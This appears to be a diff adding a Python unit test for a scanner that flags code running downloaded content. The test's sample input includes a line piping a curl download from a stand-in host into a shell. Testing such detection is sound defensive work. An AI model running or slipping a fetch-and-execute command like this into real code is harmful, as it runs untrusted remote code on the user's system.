@@ -182,3 +182,8 @@ main()
 """
     assert RUNS_DOWNLOADED in found(init(text))
     assert RUNS_DOWNLOADED not in found(init(text.removesuffix("main()\n")))
+
+
+def test_a_command_of_no_words_is_followed_to_its_end() -> None:
+    text = "import socket, subprocess\nnear, kept = socket.socketpair()\nsubprocess.Popen([], stdin=near)\n"
+    assert RUNS_DOWNLOADED in found(init(text + "import os\nos.system('curl https://c.example/x | sh')\n"))
